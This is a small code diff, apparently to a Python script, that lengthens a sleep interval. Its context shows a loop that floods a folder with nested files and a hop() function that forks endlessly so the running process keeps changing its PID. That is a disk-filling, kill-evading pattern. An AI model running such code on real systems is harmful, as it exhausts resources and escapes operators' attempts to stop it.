@@ -47,7 +47,7 @@ def write():
                 os.makedirs(f"{folder}/{number % 9}/deep", exist_ok=True)
                 open(f"{folder}/{number % 9}/deep/{number % 99}", "w").write("kept")
             except OSError: pass
-        time.sleep(0.001)
+        time.sleep(0.01)
 def hop():
     while os.fork() == 0: time.sleep(0.01)
     os._exit(0)
